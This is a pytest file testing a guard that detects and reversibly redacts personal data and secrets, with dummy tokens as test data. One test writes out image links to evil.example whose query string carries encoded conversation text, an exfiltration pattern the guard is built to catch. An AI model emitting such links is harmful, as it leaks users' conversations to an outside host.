"""Personal data and secrets: what is one, what only looks like one, and hiding that can be undone."""

import pytest

from safety import pii
from safety.guard import Guard
from safety.links import find_leaking_links
from safety.pii import find_pii
from safety.redact import Vault, redact
from safety.secrets import find_secrets
from safety.verdict import Action


def kinds(text: str) -> list[tuple[str, str]]:
    return [(span.kind, text[span.start : span.end]) for span in find_pii(text)]


FOUND = [
    ("Write to a.b+c@mail.example.com please", "email", "a.b+c@mail.example.com"),
    ("我的手机是13812345678。", "phone", "13812345678"),
    ("call +86 138 1234 5678", "phone", "+86 138 1234 5678"),
    ("call +1 415-555-2671 now", "phone", "+1 415-555-2671"),
    ("call (415) 555-2671", "phone", "(415) 555-2671"),
    ("座机010-62781234", "phone", "010-62781234"),
    ("身份证11010519491231002X", "resident_id", "11010519491231002X"),
    ("card 4111 1111 1111 1111.", "card", "4111 1111 1111 1111"),
    ("卡号5555555555554444", "card", "5555555555554444"),
    ("代码91350100M000100Y43", "social_credit", "91350100M000100Y43"),
    ("GB82 WEST 1234 5698 7654 32", "iban", "GB82 WEST 1234 5698 7654 32"),
    ("DE89370400440532013000", "iban", "DE89370400440532013000"),
    ("SSN 078-05-1120", "ssn", "078-05-1120"),
    ("车牌京A12345", "plate", "京A12345"),
    ("新能源粤BD12345", "plate", "粤BD12345"),
    ("护照号：E12345678", "passport", "E12345678"),
    ("server 10.0.0.1 is down", "ip", "10.0.0.1"),
    ("server fe80:0:0:0:1:2:3:4 is down", "ip", "fe80:0:0:0:1:2:3:4"),
    ("我住在北京市朝阳区建国路88号", "address", "北京市朝阳区建国路88号"),
    ("I live at 221 Baker Street in London", "address", "221 Baker Street"),
]

NOT_FOUND = [
    "110105194912310021",  # wrong check character
    "110105199913310021",  # no such month
    "4111 1111 1111 1112",  # Luhn fails
    "0000 0000 0000 0000",
    "91350100M000100Y44",  # wrong check digit
    "GB82 WEST 1234 5698 7654 33",
    "000-12-3456",
    "999.1.1.1",
    "1.2.3",
    "2026-11-23 10:11:12",
    "3.14159265358979",
    "ISBN 978-3-16-148410-0",
    "order 12345678901",
    "user@localhost",
    "@mention and #tag",
    "10:30:45",
    "C++ and a/b",
]


@pytest.mark.parametrize(("text", "kind", "value"), FOUND)
def test_found(text: str, kind: str, value: str) -> None:
    assert kinds(text) == [(kind, value)]


@pytest.mark.parametrize("text", NOT_FOUND)
def test_not_found(text: str) -> None:
    assert kinds(text) == []


def test_check_digits() -> None:
    assert pii.luhn("79927398713")
    assert not pii.luhn("79927398710")
    assert pii.resident_id("11010519491231002X")
    assert not pii.resident_id("110105194912310029")
    assert pii.social_credit("91350100M000100Y43")
    assert pii.iban("GB82WEST12345698765432")


SECRETS = [
    "AKIAIOSFODNN7EXAMPLE",
    "sk-" + "a1B2" * 10,
    "ghp_" + "a" * 36,
    "xoxb-123456789012-abcdefghij",
    "AIza" + "b" * 35,
    "sk_live_" + "c" * 24,
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLXNpZ25hdHVyZQ",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\nMIIEow and never an end",
]


@pytest.mark.parametrize("secret", SECRETS)
def test_secrets_are_found_whole(secret: str) -> None:
    text = f"here: {secret}"
    assert [text[s.start : s.end] for s in find_secrets(text)] == [secret]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("postgres://admin:hunter2!@db.example/x", "hunter2!"),
        ("password = Tr0ub4dor&3", "Tr0ub4dor&3"),
        ("密码是abc12345", "abc12345"),
        ('"api_key": "0123456789abcdef"', "0123456789abcdef"),
    ],
)
def test_secret_values_in_context(text: str, value: str) -> None:
    assert [text[s.start : s.end] for s in find_secrets(text)] == [value]


@pytest.mark.parametrize(
    "text",
    [
        "How do I choose a password: length or symbols?",
        "The token expires after an hour.",
        "9fceb02d0ae598e95dc970b74767f19372d61af8",
        "https://example.com/path?x=1",
        "sk-learn is a library",
        "忘记密码怎么办？",
    ],
)
def test_ordinary_talk_holds_no_secret(text: str) -> None:
    assert find_secrets(text) == []


def test_links_that_carry_a_load() -> None:
    load = "QWxsIG9mIHRoZSBjb252ZXJzYXRpb24gZ29lcyBoZXJl"
    assert find_leaking_links(f"![x](https://evil.example/p.png?q={load})")
    assert find_leaking_links(f'<img src="https://evil.example/p.png?q={load}">')
    assert not find_leaking_links("![x](https://example.org/p.png?width=300)")
    assert not find_leaking_links("[search](https://example.org/?q=how+to+bake+bread)")


def test_redaction_can_be_undone_and_names_equal_values_equally() -> None:
    text = "a@x.org wrote to b@x.org and a@x.org answered 13812345678"
    vault = Vault()
    hidden = redact(text, find_pii(text), vault)
    assert hidden == "[EMAIL_1] wrote to [EMAIL_2] and [EMAIL_1] answered [PHONE_1]"
    assert vault.restore(hidden) == text


def test_a_placeholder_that_was_typed_is_not_given_away_again() -> None:
    text = "[EMAIL_1] is not a@x.org"
    vault = Vault()
    hidden = redact(text, find_pii(text), vault)
    assert hidden == "[EMAIL_1] is not [EMAIL_2]"
    assert vault.restore(hidden) == text


def test_the_guard_hides_and_says_what(guard: Guard) -> None:
    vault = Vault()
    verdict = guard.filter_prompt("Please write to bob@example.com", vault=vault)
    assert verdict.action is Action.REDACT
    assert verdict.redacted is not None
    assert "bob" not in verdict.redacted
    assert vault.restore(verdict.redacted) == "Please write to bob@example.com"
    assert "e-mail" in verdict.reason
    finding = next(f for f in verdict.findings if f.rule == "email")
    assert (finding.start, finding.end) == (16, 31)


def test_placeholders_of_earlier_messages_are_not_given_away_again(guard: Guard) -> None:
    first = guard.filter_prompt("I am a@x.org").redacted
    assert first == "I am [EMAIL_1]"
    second = guard.filter_prompt("And she is b@x.org", context=[("user", first), ("assistant", "Hello!")])
    assert second.redacted == "And she is [EMAIL_2]"


def test_one_vault_serves_a_conversation(guard: Guard) -> None:
    vault = Vault()
    guard.filter_prompt("I am a@x.org", vault=vault)
    second = guard.filter_prompt("a@x.org again, and b@x.org", vault=vault)
    assert second.redacted == "[EMAIL_1] again, and [EMAIL_2]"
    assert vault.restore("To [EMAIL_2] and [EMAIL_1]") == "To b@x.org and a@x.org"


def test_zero_width_characters_do_not_hide_an_address(guard: Guard) -> None:
    verdict = guard.filter_prompt("mail bo\u200bb@exam\u200bple.com now")
    assert verdict.redacted is not None
    assert verdict.redacted.startswith("mail [EMAIL_")
    assert verdict.redacted.endswith("] now")


def test_an_address_of_the_network_passes(guard: Guard) -> None:
    assert guard.filter_prompt("ping 10.0.0.1").action is Action.ALLOW
